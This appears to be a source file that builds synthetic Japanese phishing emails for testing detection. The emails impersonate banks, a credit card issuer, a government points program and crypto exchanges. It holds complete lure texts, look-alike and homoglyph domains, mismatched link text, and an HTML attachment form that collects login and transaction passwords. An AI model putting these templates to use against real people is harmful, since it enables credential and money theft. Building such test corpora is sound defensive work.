P("aeoncard-kurashi-money-shortener-html", "イオンカード",
  ("イオンカード 暮らしのマネーサイト", "aeon-card@aeon-kurashi-money.top"),
  "【イオンカード】カードご利用確認のお願い",
  html=page("カードご利用確認のお願い", paras(
      "イオンカードをご利用いただきありがとうございます。",
      "第三者による不正利用の可能性がある取引を検知したため、カードのご利用を一時停止しております。",
      "ご利用日時:2026/11/14 02:13\nご利用金額:98,000円\nご利用先:APPLE.COM/BILL") +
      btn("https://cutt.ly/" + tok("aeon", 7), "ご利用内容を確認する", "#b6007a"), color="#b6007a",
      foot="イオンフィナンシャルサービス株式会社"),
  to=R_ITO, auth=A("m365", ip="203.0.113.49", dmarc="none", compauth="softpass reason=201"),
  tricks="fake fraud-detection notice with concrete transaction; cutt.ly shortener in an HTML button; look-alike .top sender")

P("mynapoint-fake-gojp-hierarchy", "マイナポイント(総務省)",
  ("総務省 マイナポイント事務局", "mynapoint@soumu-go.jp.net"),
  "【マイナポイント第3弾】申込期限のお知らせ(最大20,000円分)",
  body="""マイナンバーカードをお持ちの皆さまへ

マイナポイント第3弾の申込期限が迫っています。
下記の特設サイトから、マイナンバーカードの暗証番号(4桁)と決済サービスのカード番号を登録すると、
最大20,000円分のポイントが付与されます。

https://mynumbercard.point.soumu.go.jp.mnp-apply.top/apply

総務省 マイナポイント事務局""",
  cte="base64", to=R_SATO, auth=A("gmail", ip="203.0.113.177", dmarc="none"),
  tricks="fake go.jp hierarchy: sender soumu-go.jp.net, link mynumbercard.point.soumu.go.jp.mnp-apply.top; asks My Number PIN and card number")

# ------------------------------------------------------------------ banks / credit unions / crypto
P("smbc-torihiki-kisei-lookalike", "三井住友銀行",
  ("三井住友銀行", "SMBC_service@smbc-direct-jp.com"),
  "【三井住友】お取引を規制しました",
  body="""三井住友銀行SMBCダイレクトご利用のお客様

いつも三井住友銀行をご利用いただき、ありがとうございます。
お客さまのお取引を規制させていただきましたので、お知らせします。

取引規制日時:2026/11/12 6:17:11
取引規制内容
・出金規制
・入金規制

以下へアクセスし、規制解除をしてください。
https://www.smbc-login.direct-jp.co/

━━━━━━━━━━━━━━━━━━
発行:株式会社 三井住友銀行
東京都千代田区丸の内一丁目1番2号""",
  cte="base64", to=R_SUZUKI, auth=A("gmail", ip="198.51.100.14", dmarc="none"),
  tricks="the bank's own FAQ lists '利用再開や制限解除の手続を促すメール' as fake; look-alike sender; .co link")

P("smbc-forged-m365-brand-subdomain", "三井住友銀行",
  ("三井住友銀行", "info@smbc.co.jp"),
  "【三井住友銀行】犯罪収益移転防止法に基づくお取引目的等の確認",
  body="""三井住友銀行をご利用いただきありがとうございます。

当行では、犯罪収益移転防止法に基づき、お取引を行う目的等を確認させていただいております。
下記のリンクからご回答ください。一定期間ご確認いただけない場合、口座取引を一部制限させていただきます。

https://www.smbc.co.jp.kakunin-torihiki.icu/direct/

株式会社三井住友銀行""",
  cte="quoted-printable", to=R_KOBA,
  auth=A("m365", spf="fail", dkim="none", dmarc="fail", mf="mailer@kakunin-torihiki.icu", ip="198.51.100.118"),
  tricks="forged smbc.co.jp From (M365 spf fail, dmarc fail action=oreject, compauth fail); brand-as-subdomain www.smbc.co.jp.kakunin-torihiki.icu; 取引目的確認 campaign")

P("smtb-forged-direct-visible-url", "三井住友信託銀行",
  ("三井住友信託銀行", "banking@direct.smtb.jp"),
  "【三井住友信託銀行】ワンタイムパスワードの再設定のお願い",
  html=page("ワンタイムパスワード再設定のお願い", paras(
      "インターネットバンキングをご利用のお客さま",
      "システム更新に伴い、ワンタイムパスワードアプリの再設定が必要となりました。"
      "2026年11月30日までに再設定を完了しない場合、インターネットバンキングがご利用いただけなくなります。") +
      '<p><a href="https://direct-smtb.otp-reset.top/login">https://direct.smtb.jp/</a></p>',
      color="#00837b", foot="三井住友信託銀行株式会社"),
  to=R_TAKA,
  auth=A("gmail", spf="fail", dkim="none", dmarc="fail", mf="root@otp-reset.top", ip="203.0.113.235"),
  tricks="forged From banking@direct.smtb.jp (an address the bank lists as its own) failing DMARC (Gmail AR); link text shows direct.smtb.jp, href .top")

P("mizuho-qr-only-noauth", "みずほ銀行",
  ("みずほ銀行", "mizuhobank@info-mizuho.com"),
  "【みずほ銀行】お客さま情報等の確認について",
  html=page("お客さま情報等の確認について", paras(
      "いつもみずほ銀行をご利用いただきありがとうございます。",
      "当行では、マネー・ローンダリング対策としてお客さま情報の確認を行っております。",
      "スマートフォンのカメラで以下のQRコードを読み取り、ご回答ください。") +
      '<p style="text-align:center"><img src="cid:qr-mzh" width="200"></p>', color="#002e73",
      foot="株式会社みずほ銀行"),
  kind="related", attach=[("mizuho_qr.png", "image/png", qr_png("mizuho-qr"), "qr-mzh")],
  cs="iso-2022-jp", subj_enc="b-iso", to=R_WATA, auth=None,
  tricks="QR code only (2024 みずほ QR campaign style); no Authentication-Results; look-alike sender; ISO-2022-JP HTML")

P("yucho-lookalike-eucjp", "ゆうちょ銀行",
  ("ゆうちょ銀行", "info@jp-bank-japanpost.com"),
  "【ゆうちょ銀行】ゆうちょダイレクトご利用停止のお知らせ",
  body="""ゆうちょダイレクトをご利用のお客さま

お客さまの口座に不正なアクセスがあったため、ゆうちょダイレクトのご利用を停止しました。
お客さま番号、ログインパスワード、合言葉を入力して、ご利用を再開してください。

https://jp-bank-japanpost.com/direct/restart

株式会社ゆうちょ銀行""",
  cs="euc-jp", cte="8bit", subj_enc="b-utf8", to=R_SATO,
  auth=A("gmail", ip="198.51.100.133", dmarc="none"),
  tricks="look-alike jp-bank-japanpost.com (real site is jp-bank.japanpost.jp); asks 合言葉; EUC-JP 8bit")

P("resona-ip-host-port", "りそな銀行",
  ("りそなグループ", "resona-support@resona-gr.info"),
  "【りそな】マイゲート 取引制限のお知らせ",
  body="""りそなマイゲートをご利用のお客さま

不正送金の被害防止のため、お客さまの口座の取引を一時制限しています。
以下より本人確認を行ってください。

http://198.51.100.23:8080/resona/mygate/

りそな銀行""",
  cte="8bit", to=R_TANAKA, auth=A("m365", ip="198.51.100.23", dmarc="none", compauth="none reason=905"),
  tricks="IP-address host with port; look-alike .info sender")

P("shizuokabank-hyphen-lookalike", "静岡銀行",
  ("静岡銀行", "notice@shizuokabank-co.jp"),
  "【しずぎん】インターネットバンキング 本人確認のお願い",
  body="""しずぎんインターネットバンキングをご利用のお客様

お客様の本人確認が完了していないため、振込機能を制限しております。
期限までにお手続きがない場合、インターネットバンキングのご契約を解除いたします。

https://shizuokabank-co.jp/ib/kyc

株式会社静岡銀行""",
  cte="base64", to=R_ITO, auth=A("isp", ip="203.0.113.33", dmarc="none"),
  tricks="hyphen look-alike shizuokabank-co.jp passing its own auth (invented ISP AR); regional bank")

P("shinkin-compromised-dental", "城南信用金庫",
  ("城南信用金庫", "info@sakurazaka-shika-ex.jp"),
  "【城南信用金庫】じょうしんダイレクト 重要なお知らせ",
  body="""じょうしんダイレクトをご利用のお客さま

セキュリティ強化のため、ログイン時の認証方式を変更いたしました。
下記よりログインし、ワンタイムパスワードの再登録を行ってください。

https://johnan-shinkin.direct-login.xyz/

城南信用金庫""",
  cte="base64", to=R_NAKA, auth=A("gmail", ip="203.0.113.205"),
  tricks="compromised unrelated sender (dental clinic) with full SPF/DKIM/DMARC pass; credit union; .xyz look-alike")

P("jabank-machine-translated", "JAバンク",
  ("JAネットバンク", "jabank@ja-netbank-service.com"),
  "JAネットバンク:あなたのアカウントは一時的に停止されています",
  body="""親愛なる顧客、

あなたのJAネットバンクのアカウントは、異常な活動を検出したために一時的に停止されています。
あなたのアカウントを回復するために、以下のリンクをクリックし、あなたの情報を確認してください。
24時間以内に確認しない場合、アカウントは永久にロックされます。

https://ja-netbank-service.com/recover

JAバンク セキュリティ部門""",
  cte="base64", to=R_KOBA, auth=A("gmail", ip="198.51.100.240", dmarc="none"),
  tricks="machine-translated Japanese (親愛なる顧客, あなたの…); 永久にロック threat; look-alike")

P("rokin-refund-callback-noauth", "労働金庫(ろうきん)",
  ("中央ろうきん", "rokin.kanpu@gmail.com"),
  "【中央ろうきん】手数料返還手続きのご案内",
  body="""組合員の皆さまへ

過去に徴収したATM手数料の返還手続きのご案内です。
返還額:6,380円

返還手続きは電話で受け付けております。
①お電話 ②担当者のご案内 ③ATMでのお手続き の順に進めてください。下記窓口までお電話いただき、担当者の案内に従って
ATMで手続きを行ってください。
返還手続き窓口 03-6862-4419(平日9時~19時)

中央労働金庫""",
  cs="iso-2022-jp", subj_enc="b-iso", frm_enc="iso-2022-jp", to=R_SUZUKI, auth=None,
  tricks="refund call-back scam (ATM operation by phone), no link; free mail (gmail.com); no Authentication-Results")

P("bitflyer-smart-auth-lookalike", "bitFlyer",
  ("bitFlyer", "no-reply@bitflyer-jp.net"),
  "【bitFlyer】「スマート認証」設定のお願い",
  body="""bitFlyerをご利用いただきありがとうございます。

2026年12月1日より、ログイン時の「スマート認証」設定が必須となります。
設定がお済みでないお客様は、下記より設定をお願いします。
設定が完了していない場合、暗号資産の送付・日本円の出金が制限されます。

https://bitflyer-jp.net/ja-jp/smart-auth

株式会社bitFlyer""",
  cte="base64", to=R_WATA, auth=A("gmail", ip="203.0.113.111", dmarc="none"),
  tricks="look-alike bitflyer-jp.net (real: bitflyer.com / bitflyer.jp) passing own auth; withdrawal-limit threat")

P("bitflyer-punycode-transfer", "bitFlyer",
  ("bitFlyer", "support@xn--bitfyer-ihh.com"),
  "【bitFlyer】暗号資産の送付申請を受け付けました",
  body="""以下の内容で暗号資産の送付申請を受け付けました。

通貨:BTC
数量:0.4821
送付先:bc1q""" + tok("btcaddr", 30).lower() + """

お心当たりのない場合は、直ちに下記から申請を取り消してください。
https://xn--bitfyer-ihh.com/ex/cancel

株式会社bitFlyer""",
  cte="8bit", to=R_TAKA, auth=A("m365", ip="198.51.100.101", dmarc="none", compauth="softpass reason=201"),
  tricks="punycode homoglyph (Cyrillic ӏ for l) in sender and link; fake withdrawal notice 'cancel here'")

P("coincheck-withdraw-onrender", "Coincheck",
  ("Coincheck", "info@coincheck-support.org"),
  "【Coincheck】出金申請完了のお知らせ",
  html=page("出金申請完了のお知らせ", paras(
      "以下の出金申請を受け付けました。",
      "出金額:480,000円\n出金先:○○銀行 △△支店",
      "このお取引に心当たりがない場合は、30分以内に申請をキャンセルしてください。") +
      btn("https://coincheck-cancel.onrender.com/withdraw/cancel", "申請をキャンセルする", "#2a5fd2"),
      color="#2a5fd2", foot="コインチェック株式会社"),
  to=R_SUZUKI, auth=A("gmail", ip="198.51.100.171", dmarc="none"),
  tricks="fake withdrawal 'cancel within 30 minutes'; onrender.com free hosting; look-alike .org sender")

P("gmocoin-ipfs-gateway", "GMOコイン",
  ("GMOコイン", "info@gmo-coin-notice.com"),
  "【GMOコイン】口座情報の確認が必要です",
  body="""GMOコインをご利用いただきありがとうございます。

金融庁のガイドライン改正に伴い、全てのお客様に口座情報の再確認をお願いしております。
下記URLから、ログインIDとパスワード、二段階認証コードを入力してください。

https://ipfs.io/ipfs/bafybeig""" + tok("ipfs", 40).lower() + """/gmo.html

GMOコイン株式会社""",
  cte="quoted-printable", to=R_TANAKA, auth=A("gmail", ip="203.0.113.29", dmarc="none"),
  tricks="IPFS gateway landing page; asks password and 2FA code; regulatory pretext")

P("jibunbank-html-attachment", "auじぶん銀行",
  ("auじぶん銀行", "service@jibunbank-info.com"),
  "【auじぶん銀行】重要:お取引の確認",
  body="""auじぶん銀行をご利用いただきありがとうございます。
お客さまの口座で不審なお取引が確認されました。
添付の確認フォームにご入力のうえ、送信してください。

auじぶん銀行株式会社""",
  attach=[("確認フォーム.htm", "text/html",
           page("auじぶん銀行 お取引確認", '<form action="https://jibun-kakunin.vercel.app/submit" method="post">'
                "<p>口座番号 <input name=\"acc\"></p><p>ログインパスワード <input type=\"password\" name=\"pw\"></p>"
                "<p>取引パスワード <input type=\"password\" name=\"tpw\"></p><p><input type=\"submit\" value=\"送信\"></p></form>"))],
  cte="base64", to=R_ITO, auth=A("m365", ip="203.0.113.145", dmarc="none", compauth="softpass reason=201"),
  tricks="HTML attachment with a form posting to vercel.app; asks login and transaction passwords")
